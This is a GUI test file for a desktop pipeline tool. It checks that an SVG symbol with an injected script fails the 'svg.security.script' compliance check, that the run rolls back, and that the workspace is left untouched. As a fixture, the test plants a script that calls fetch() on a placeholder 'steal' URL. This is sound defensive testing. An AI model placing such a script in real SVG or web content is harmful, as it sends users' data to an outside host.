"""SPEC §9 journey 2 — bad run, no harm.  A symbol carries a <script>; the engineer runs
the pipeline from the Pipeline surface: compliance fails, the run ends rolled_back, the
workspace is byte-identical to before, the log opens on the failing check (file and
element named), and clicking the finding opens the symbol in the Symbols surface."""

from __future__ import annotations

import json

import pytest
from PySide6.QtCore import Qt

from arxconsole.engine.demo import write_demo_workspace

from .conftest import click_cell, click_tab, tree_hash

pytestmark = pytest.mark.gui

SYMBOL_ID = "EL_WallSwitch_001"
SYMBOL = f"arx-symbol-library/electrical/{SYMBOL_ID}.json"


def test_script_in_a_symbol_fails_compliance_and_the_run_does_no_harm(main_window, qtbot, tmp_path):
    root = tmp_path / "plant"
    write_demo_workspace(root)
    # someone pasted a drawing carrying a script into a symbol, by hand
    path = root / SYMBOL
    sym = json.loads(path.read_text(encoding="utf-8"))
    sym["svg"] = sym["svg"].replace("</svg>", "<script>fetch('https://x.example/steal')</script></svg>")
    path.write_text(json.dumps(sym, indent=2), encoding="utf-8")
    before = tree_hash(root)

    assert main_window.open_workspace(root)
    main_window.show_surface("pipeline")
    page = main_window.surface("pipeline")
    assert main_window.stack.currentWidget() is page
    page.system_combo.setCurrentText("electrical")
    assert page.new_system_radio.isChecked() or not page.object_edit.isEnabled()
    assert page.run_button.isEnabled()
    qtbot.mouseClick(page.run_button, Qt.LeftButton)
    qtbot.waitUntil(lambda: not page.driver.active and page._loader is None and page.run is not None,
                    timeout=60_000)

    # the run ended rolled back, compliance is the step that failed
    assert page.run["state"] == "rolled_back"
    assert "Rolled back" in page.run_label.text()
    states = dict(zip((r["id"] for r in page.steps.rows()), page.steps.column_texts(1)))
    assert states["compliance"] == "Failed"
    assert all(states[s] == "Rolled back" for s in ("update-registry", "documentation")), states
    assert main_window.status_items["run"].text_label.text().endswith("Rolled back")
    assert page.runs.column_texts(1)[0] == "Rolled back"            # the history says so too

    # no harm: the workspace is byte-identical to before the run
    assert tree_hash(root) == before
    assert not (root / "symbol_index.json").exists() and not (root / "docs/systems/electrical.md").exists()

    # the surface opens on the failing step, the log on the failing check
    assert page.selected_step() == "compliance"
    assert page.tabs.currentWidget() is page.log_page
    rec = page.log_view.current_record()
    assert rec is not None and rec.level == "error" and rec.step == "compliance"
    assert SYMBOL in rec.message and "svg/script" in rec.message and "svg.security.script" in rec.message
    # ...and the log says what was undone
    messages_logged = [page.log_view.model.record(r).message for r in range(page.log_view.model.rowCount())]
    assert any("roll" in m.lower() for m in messages_logged)

    # the failing check's finding names the file and the element
    click_tab(qtbot, page.tabs, "Findings")
    rules = page.findings.column_texts(2)
    assert "svg.security.script" in rules
    row = rules.index("svg.security.script")
    assert page.findings.column_texts(0)[row] == "Error"
    assert page.findings.column_texts(1)[row] == SYMBOL_ID
    assert page.findings.column_texts(4)[row] == SYMBOL
    assert page.findings.column_texts(5)[row] == "svg/script"

    # clicking the finding opens the symbol in the Symbols surface
    symbols = main_window.surface("symbols")
    click_cell(qtbot, page.findings_table, page.findings, row, 1)
    qtbot.waitUntil(lambda: main_window.stack.currentWidget() is symbols, timeout=10_000)
    qtbot.waitUntil(lambda: symbols.doc.is_open and symbols.doc.get("id") == SYMBOL_ID, timeout=15_000)
    assert symbols.editor.title.text().startswith(SYMBOL_ID)
    assert symbols.doc.path == path
    # the editor shows the same problem, with saving blocked until it is fixed
    symbols.editor.refresh_now()
    assert "svg.security.script" in {f.rule for f in symbols.editor.findings}
    assert not symbols.editor.save_button.isEnabled()
    assert "<script>" in symbols.editor.source.toPlainText()
    assert main_window.rail.currentItem().text() == "Symbols"

    from arxconsole.gui.workers import wait_for_workers

    qtbot.waitUntil(lambda: not symbols.library.loading and not symbols.library.validating, timeout=15_000)
    wait_for_workers()
